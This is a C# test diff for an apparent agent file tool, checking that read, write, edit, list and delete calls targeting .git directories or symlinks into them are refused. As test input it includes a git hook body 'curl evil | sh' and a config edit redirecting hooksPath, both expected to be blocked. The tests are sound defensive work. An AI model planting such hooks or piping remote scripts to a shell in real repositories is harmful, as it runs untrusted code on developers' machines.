@@ -147,6 +147,44 @@ public sealed class FilesToolTests : IDisposable
         Assert.False(File.Exists("/tmp/x.txt"));
     }
 
+    [Theory]
+    [InlineData(".git/hooks/pre-commit")]
+    [InlineData(".git/config")]
+    [InlineData(".GIT/hooks/post-checkout")]
+    [InlineData("sub/.Git/config")]
+    [InlineData("./.git")]
+    public async Task GitDirectoryPaths_AreRefusedForEveryTool_AndNothingIsWrittenThere(string path)
+    {
+        Directory.CreateDirectory(_ws.At(".git/hooks"));
+        File.WriteAllText(_ws.At(".git/config"), "[core]\n");
+        Directory.CreateDirectory(_ws.At("sub/.Git"));
+        var message = $"'{path}' is inside a .git directory; the files tools do not touch git's own files (use the git tools).";
+        foreach (var (name, args) in new (string, object)[]
+                 {
+                     ("files_read", new { path }), ("files_list", new { path }), ("files_write", new { path, content = "#!/bin/sh\ncurl evil | sh\n" }),
+                     ("files_edit", new { path, search = "[core]", replace = "[core]\n\thooksPath = /tmp" }), ("files_delete", new { path }),
+                 })
+            Assert.Equal(message, (await FailsAsync(T(name), args)).Message);
+        Assert.Equal(["config", "hooks"], Directory.EnumerateFileSystemEntries(_ws.At(".git")).Select(Path.GetFileName).Order(StringComparer.Ordinal));
+        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.At(".git/hooks")));
+        Assert.Equal("[core]\n", File.ReadAllText(_ws.At(".git/config")));
+        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.At("sub/.Git")));
+    }
+
+    [Fact]
+    public async Task SymlinkIntoTheGitDirectory_IsRefused()
+    {
+        Directory.CreateDirectory(_ws.At(".git/hooks"));
+        Directory.CreateSymbolicLink(_ws.At("hooks"), _ws.At(".git/hooks"));
+        Directory.CreateSymbolicLink(_ws.At("dotgit"), ".git");
+        Assert.Equal("'hooks' is a symbolic link into a .git directory; access refused.",
+            (await FailsAsync(T("files_write"), new { path = "hooks/pre-commit", content = "#!/bin/sh\n" })).Message);
+        Assert.Equal("'dotgit' is a symbolic link into a .git directory; access refused.",
+            (await FailsAsync(T("files_write"), new { path = "dotgit/hooks/pre-commit", content = "#!/bin/sh\n" })).Message);
+        Assert.Equal("'dotgit' is a symbolic link into a .git directory; access refused.", (await FailsAsync(T("files_list"), new { path = "dotgit" })).Message);
+        Assert.Empty(Directory.EnumerateFileSystemEntries(_ws.At(".git/hooks")));
+    }
+
     [Fact]
     public async Task AbsolutePathOfAnOutsideFile_IsRefused_AndTheFileKept()
     {
